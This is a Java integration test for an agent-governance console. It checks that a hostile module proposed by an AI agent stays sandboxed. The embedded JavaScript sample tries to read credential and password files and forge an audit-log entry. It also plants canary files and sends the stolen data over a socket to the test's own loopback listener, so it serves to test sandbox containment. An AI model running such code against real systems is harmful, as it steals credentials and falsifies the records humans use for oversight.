package dev.pilothouse.agent;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.pilothouse.agent.auth.Scope;
import dev.pilothouse.runtime.HarperInstaller;
import dev.pilothouse.runtime.LocalRuntime;
import dev.pilothouse.workspace.Hashing;
import dev.pilothouse.workspace.policy.Policy;
import dev.pilothouse.workspace.policy.ShadowMode;
import dev.pilothouse.workspace.shadow.ShadowCheck;
import dev.pilothouse.workspace.shadow.ShadowHarper;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * security.md §6 end to end: an agent on the official TypeScript MCP SDK proposes a module whose body tries every
 * forbidden act (read the console's secrets and smuggle them out, append to the policy and the audit log, plant
 * canaries in the user's home, {@code /tmp} and the workspace, list the workspace, reach a loopback listener of this
 * test). Each act leaves a trace only if it succeeds; after validation none may be found.
 */
class HostileAgentIT {

    private static final String MODULE = """
            import { Resource, tables } from 'harperdb';
            import fs from 'node:fs';
            import net from 'node:net';

            const MARK = ['@MARK_A@', '@MARK_B@'].join('-');
            const tried = {};
            const loot = {};
            function attempt(act, fn) {
              try { const out = fn(); tried[act] = 'done'; return out; } catch (e) { tried[act] = String(e.code ?? e); }
            }
            loot.agents = attempt('read agents.json', () => fs.readFileSync('@AGENTS@', 'utf8'));
            loot.users = attempt('read users.json', () => fs.readFileSync('@USERS@', 'utf8'));
            loot.target = attempt('read the target credentials', () => fs.readFileSync('@TARGET@', 'utf8'));
            loot.shadow = attempt('read the shadow credentials', () => fs.readFileSync('@SHADOW@', 'utf8'));
            loot.listing = attempt('list the workspace', () => fs.readdirSync('@WORKSPACE@'));
            attempt('append to the policy', () => fs.appendFileSync('@POLICY@', MARK));
            attempt('append to the audit log', () => fs.appendFileSync('@AUDIT@',
                JSON.stringify({ actor: 'human:ada', action: MARK }) + '\\n'));
            attempt('write a canary into the home folder', () => fs.writeFileSync('@HOME_CANARY@', MARK));
            attempt('write a canary into /tmp', () => fs.writeFileSync('@TMP_CANARY@', MARK));
            attempt('write a canary into the workspace', () => fs.writeFileSync('@WORKSPACE@/@CANARY@', MARK));
            attempt('overwrite the working schema', () => fs.writeFileSync('@WORKSPACE@/schema.graphql', MARK));
            const stolen = MARK + ' ' + JSON.stringify(loot);
            const socket = net.connect(@PORT@, '127.0.0.1', () => { tried.connect = 'done'; socket.end(stolen); });
            socket.on('error', (e) => { tried.connect = String(e.code); });

            export class Report extends Resource {
              static loadAsInstance = false;

              async get() {
                try { await tables.Loot.put({ id: 'loot', stolen }); } catch (e) { tried.record = String(e); }
                return { tried, stolen };
              }
            }
            """;
    private static final String SCHEMA =
            StarterApp.SCHEMA + "\ntype Loot @table @export {\n  id: ID @primaryKey\n  stolen: String\n}\n";
    private static final Set<String> READS = Set.of(
            "read agents.json",
            "read users.json",
            "read the target credentials",
            "read the shadow credentials",
            "list the workspace");

    @TempDir
    Path tmp;

    private final String nonce =
            HexFormat.of().toHexDigits(ThreadLocalRandom.current().nextLong());
    /** Only the module's code joins the two halves, so neither the proposal nor the audit log contain it unless it ran. */
    private final String marker = "HOSTILE-" + nonce;

    private final Path homeCanary = Path.of(System.getProperty("user.home"), "pilothouse-canary-" + nonce);
    private final Path tmpCanary = Path.of("/tmp", "pilothouse-canary-" + nonce);
    private Listener listener;
    private ShadowHarper shadow;
    private GatewayFixture fx;

    private Path shadowDir;

    @BeforeEach
    void listen() throws IOException {
        listener = new Listener();
        shadowDir = tmp.resolve("shadow");
    }

    @AfterEach
    void stop() throws IOException {
        if (fx != null) {
            fx.close();
        }
        if (shadow != null) {
            shadow.stop();
        }
        listener.close();
        Files.deleteIfExists(homeCanary); // only there when a broken sandbox let the module out
        Files.deleteIfExists(tmpCanary);
    }

    @Test
    void aHostileProposalFromTheTypeScriptClientLeavesNoTraceOutsideTheSandbox() throws IOException {
        Scene scene = open(Optional.empty());

        JsonNode result = scene.runAgent();

        JsonNode step = shadowStep(result);
        assertThat(step.path("verdict").asText()).as(step.toString()).isEqualTo("pass");
        assertThat(step.path("output").asText())
                .startsWith("confined:")
                .contains("ok GET /Report answers 200")
                .doesNotContain(marker);
        scene.assertNothingEscaped(result);
        // the module did run, inside: every read failed there and the listener was out of reach
        JsonNode report = shadow.client().rest().get("/Report").orElseThrow();
        JsonNode tried = report.path("tried");
        READS.forEach(act -> assertThat(tried.path(act).asText()).as(act).isEqualTo("ENOENT"));
        assertThat(tried.path("connect").asText()).isEqualTo("ECONNREFUSED");
        assertThat(report.path("stolen").asText()).isEqualTo(marker + " {}");
        String record = shadow.client().rest().get("/Loot/loot").orElseThrow().toString();
        scene.secrets().forEach(secret -> assertThat(record).doesNotContain(secret));
    }

    @Test
    void withoutASandboxTheHostileProposalWaitsForAReviewerAndNothingRuns() throws IOException {
        Scene scene = open(Optional.of("no sandbox in this test"));

        JsonNode result = scene.runAgent();

        JsonNode step = shadowStep(result);
        assertThat(step.path("verdict").asText()).isEqualTo("skipped");
        assertThat(step.path("output").asText()).startsWith(ShadowCheck.WAITS).contains("no sandbox in this test");
        assertThat(result.path("status").path("verdict").asText())
                .as("a skipped step is never a pass")
                .isEqualTo("skipped");
        assertThat(shadowDir.resolve("harper.out"))
                .as("no shadow Harper started")
                .doesNotExist();
        scene.assertNothingEscaped(result);
    }

    @Test
    void aProposalWhoseCodeWritesAMarkedTableTakesTheProtectedPathAndIsNeverStored() throws IOException {
        String schema =
                StarterApp.SCHEMA + "\n\"\"\"Ledger of payments @protected\"\"\"\ntype Payment @table @export {\n"
                        + "  id: ID @primaryKey\n  amount: Float\n}\n";
        fx = new GatewayFixture(
                tmp,
                Map.of(
                        "schema.graphql",
                        schema,
                        "config.yaml",
                        StarterApp.CONFIG,
                        "resources.js",
                        StarterApp.RESOURCES),
                Optional.empty(),
                "ledgerapp",
                GatewaySettings.LOOPBACK);
        String token = fx.token("refunder", Set.of(Scope.READ, Scope.PROPOSE));
        // the table is named once, through destructuring under another name; the comment and the string are noise
        String code = "import { Resource } from 'harperdb';\n\n// refunds never touch tables.Payment directly\n"
                + "export class Refund extends Resource {\n  static loadAsInstance = false;\n\n"
                + "  async post(target, data) {\n    const { Payment: ledger } = tables;\n"
                + "    return ledger.put({ id: data.id, amount: -data.amount, note: 'tables.Payment' });\n  }\n}\n";
        WorkspaceState before = WorkspaceState.of(fx.gov);

        JsonNode result = TypeScriptAgent.run(
                "hostile.mjs",
                fx.host.endpoint().toString(),
                token,
                Map.of("HOSTILE_SCHEMA", schema, "HOSTILE_RESOURCES", code),
                tmp);

        assertThat(result.path("proposal").isNull()).as(result.toString()).isTrue();
        assertThat(result.path("error").asText())
                .contains("protected-primitive")
                .contains("resources.js:8 reads or writes protected table Payment");
        assertThat(fx.gov.proposals()).as("a refused proposal is not recorded").isEmpty();
        assertThat(WorkspaceState.of(fx.gov))
                .as("refs, proposals, policy and files")
                .isEqualTo(before);
    }

    @Test
    void readsOfMarkedDataFromTheTypeScriptClientComeBackRefusedOrMasked() throws Exception {
        String schema =
                "\"Strongroom. @protected\"\ntype Strongroom @table @export {\n  id: ID @primaryKey\n  code: String\n}\n\n"
                        + "type Cardholder @table @export {\n  id: ID @primaryKey\n  name: String\n"
                        + "  \"Card number. @protected\"\n  card: String\n}\n";
        var harper = GatewayHarper.runtime().client(GatewayHarper.node());
        fx = new GatewayFixture(
                tmp,
                Map.of(
                        "schema.graphql",
                        schema,
                        "config.yaml",
                        StarterApp.CONFIG,
                        "resources.js",
                        StarterApp.RESOURCES),
                Optional.of(harper),
                "hostilereads",
                GatewaySettings.LOOPBACK);
        try {
            GatewayHarper.runtime()
                    .deployer(GatewayHarper.node())
                    .deploy(tmp.resolve("source"), "hostilereads", java.time.Duration.ofSeconds(90));
        } catch (dev.pilothouse.runtime.HarperException restarting) {
            // Harper 4.7 may answer a 500 while its workers restart; the writes below retry until it serves
        }
        long deadline = System.nanoTime() + java.time.Duration.ofSeconds(60).toNanos();
        while (true) {
            try {
                harper.upsert("data", "Strongroom", List.of(Map.of("id", "v1", "code", "VAULT-" + nonce)));
                harper.upsert(
                        "data", "Cardholder", List.of(Map.of("id", "m1", "name", "Ada", "card", "CARD-" + nonce)));
                break;
            } catch (dev.pilothouse.runtime.HarperException e) {
                if (System.nanoTime() > deadline) {
                    throw e;
                }
                Thread.sleep(200);
            }
        }
        assertThat(fx.gov.policy().protectedPrimitives())
                .as("protected by the markers only")
                .isEmpty();
        // table names of their own: components share the data database of the one Harper these tests use
        String token = fx.token("reader", Set.of(Scope.READ));

        JsonNode result = TypeScriptAgent.run(
                "reader.mjs",
                fx.host.endpoint().toString(),
                token,
                Map.of("READ_TABLES", "[\"Strongroom\",\"Cardholder\"]"),
                tmp);

        assertThat(result.toString()).doesNotContain(nonce);
        assertThat(result.path("Strongroom").path("isError").asBoolean())
                .as(result.toString())
                .isTrue();
        assertThat(result.path("Strongroom").path("text").asText()).contains("protected-table", "@protected");
        JsonNode member = result.path("Cardholder").path("rows").path(0);
        assertThat(member.path("name").asText()).as(result.toString()).isEqualTo("Ada");
        assertThat(member.path("card").asText()).isEqualTo(dev.pilothouse.agent.tools.ToolCatalog.REDACTED);
    }

    private Scene open(Optional<String> noSandbox) throws IOException {
        dev.pilothouse.testsupport.ShadowCredentials.seed(shadowDir); // the suite's one post-install template
        shadow = new ShadowHarper(shadowDir, HarperInstaller.forCurrentUser(), true, noSandbox);
        fx = new GatewayFixture(
                tmp,
                StarterApp.files(),
                Optional.empty(),
                "hostileapp",
                GatewaySettings.LOOPBACK,
                Policy.DEFAULT.withShadow(ShadowMode.REQUIRED, 3),
                shadow);
        String token = fx.token("hostile", Set.of(Scope.READ, Scope.PROPOSE));
        Path users = fx.home.root().resolve("web/users.json");
        Files.createDirectories(users.getParent());
        String password = "$2a$10$"
                + HexFormat.of().toHexDigits(ThreadLocalRandom.current().nextLong());
        Files.writeString(users, "[{\"name\":\"ada\",\"password\":\"" + password + "\"}]\n");
        LocalRuntime target = new LocalRuntime(tmp.resolve("runtime"), HarperInstaller.forCurrentUser());
        String targetPassword = target.credentials().password();
        fx.client(token).closeGracefully(); // the agent's first use is recorded now, not during the run
        return new Scene(
                token,
                List.of(token, Hashing.sha256(token), password, targetPassword),
                module(target.credentialsFile()),
                Snapshot.of(this));
    }

    private String module(Path targetCredentials) {
        return MODULE.replace("@MARK_A@", "HOSTILE")
                .replace("@MARK_B@", nonce)
                .replace("@AGENTS@", fx.registry.file().toString())
                .replace("@USERS@", fx.home.root().resolve("web/users.json").toString())
                .replace("@TARGET@", targetCredentials.toString())
                .replace("@SHADOW@", shadow.dir().resolve("credentials.json").toString())
                .replace("@WORKSPACE@", fx.dir.toString())
                .replace("@POLICY@", fx.home.policyFile().toString())
                .replace("@AUDIT@", fx.home.auditLog().toString())
                .replace("@HOME_CANARY@", homeCanary.toString())
                .replace("@TMP_CANARY@", tmpCanary.toString())
                .replace("@CANARY@", "canary-" + nonce)
                .replace("@PORT@", String.valueOf(listener.port()));
    }

    private static JsonNode shadowStep(JsonNode result) {
        assertThat(result.path("proposal").isObject()).as(result.toString()).isTrue();
        for (JsonNode step : result.path("status").path("validation")) {
            if (step.path("name").asText().equals(ShadowCheck.STEP)) {
                return step;
            }
        }
        throw new AssertionError("no shadow step in " + result.path("status"));
    }

    /** One run: the agent's token, the secrets the module tries to read, its code and the state before. */
    private final class Scene {

        private final String token;
        private final List<String> secrets;
        private final String code;
        private final Snapshot before;

        private Scene(String token, List<String> secrets, String code, Snapshot before) {
            this.token = token;
            this.secrets = secrets;
            this.code = code;
            this.before = before;
        }

        List<String> secrets() {
            return secrets;
        }

        JsonNode runAgent() {
            return TypeScriptAgent.run(
                    "hostile.mjs",
                    fx.host.endpoint().toString(),
                    token,
                    Map.of("HOSTILE_SCHEMA", SCHEMA, "HOSTILE_RESOURCES", code),
                    tmp);
        }

        /** Every check runs and every act that got out is reported, not only the first. */
        void assertNothingEscaped(JsonNode result) throws IOException {
            Snapshot after = Snapshot.of(HostileAgentIT.this);
            String seen = result.toString();
            SoftAssertions.assertSoftly(soft -> {
                soft.assertThat(after.home())
                        .as("the console's home, but for what governance writes")
                        .isEqualTo(before.home());
                soft.assertThat(after.workspace()).as("the workspace's files").isEqualTo(before.workspace());
                soft.assertThat(after.audit())
                        .as("the audit log only grows")
                        .startsWith(before.audit())
                        .doesNotContain(marker);
                soft.assertThat(fx.gov.audit().verify(List.of()).ok())
                        .as("the audit chain is intact")
                        .isTrue();
                soft.assertThat(homeCanary).as("canary in the home folder").doesNotExist();
                soft.assertThat(tmpCanary).as("canary in /tmp").doesNotExist();
                soft.assertThat(listener.accepted())
                        .as("connections to the test's listener (it received: %s)", listener.received())
                        .isZero();
                soft.assertThat(after.proposals())
                        .as("the proposal records and staged files")
                        .doesNotContain(marker)
                        .doesNotContain(secrets);
                soft.assertThat(seen)
                        .as("what the agent saw")
                        .doesNotContain(marker)
                        .doesNotContain(secrets);
            });
        }
    }

    /**
     * SHA-256 of every file under the console's home except those governance writes during a run (the audit log,
     * the proposal records and the proposal's staged files: searched on their own), with agents.json read without
     * its last-used times; every file of the workspace's working copy; the audit log's text and the text of what
     * governance wrote.
     */
    private record Snapshot(Map<String, String> home, Map<String, String> workspace, String audit, String proposals) {

        static Snapshot of(HostileAgentIT test) throws IOException {
            GatewayFixture fx = test.fx;
            Path root = fx.home.root();
            Path state = fx.home.workspaceState(fx.dir);
            List<Path> written = List.of(state.resolve("proposals"), state.resolve("stage"));
            Set<Path> appended = Set.of(fx.home.auditLog(), fx.gov.audit().headFile());
            Map<String, String> home = new TreeMap<>();
            StringBuilder proposals = new StringBuilder();
            for (Path file : files(root)) {
                if (written.stream().anyMatch(file::startsWith)) {
                    proposals.append(Files.readString(file)).append('\n');
                } else if (!appended.contains(file)) {
                    home.put(root.relativize(file).toString(), digest(file, fx));
                }
            }
            Map<String, String> workspace = new TreeMap<>();
            for (Path file : files(fx.dir)) {
                if (!fx.dir.relativize(file).startsWith(".git")) {
                    workspace.put(fx.dir.relativize(file).toString(), Hashing.sha256(Files.readAllBytes(file)));
                }
            }
            Path audit = fx.home.auditLog();
            return new Snapshot(
                    home, workspace, Files.exists(audit) ? Files.readString(audit) : "", proposals.toString());
        }

        private static String digest(Path file, GatewayFixture fx) throws IOException {
            if (!file.equals(fx.registry.file())) {
                return Hashing.sha256(Files.readAllBytes(file));
            }
            JsonNode agents = new ObjectMapper().readTree(file.toFile());
            agents.findParents("lastUsed").forEach(n -> ((ObjectNode) n).remove("lastUsed"));
            return Hashing.sha256(agents.toString());
        }

        private static List<Path> files(Path dir) throws IOException {
            try (Stream<Path> walk = Files.walk(dir)) {
                return walk.filter(Files::isRegularFile).sorted().toList();
            }
        }
    }

    /** A loopback TCP listener that counts the connections it accepts and keeps what they sent. */
    private static final class Listener implements AutoCloseable {

        private final ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        private final AtomicInteger accepted = new AtomicInteger();
        private final StringBuffer received = new StringBuffer();

        Listener() throws IOException {
            Thread.ofPlatform().daemon().name("hostile-listener").start(this::serve);
        }

        private void serve() {
            while (!server.isClosed()) {
                try (Socket socket = server.accept()) {
                    accepted.incrementAndGet();
                    socket.setSoTimeout(2000);
                    received.append(new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8));
                } catch (IOException e) {
                    // closed, or the peer went away: the count already says it connected
                }
            }
        }

        int port() {
            return server.getLocalPort();
        }

        int accepted() {
            return accepted.get();
        }

        String received() {
            return received.toString();
        }

        @Override
        public void close() throws IOException {
            server.close();
        }
    }
}
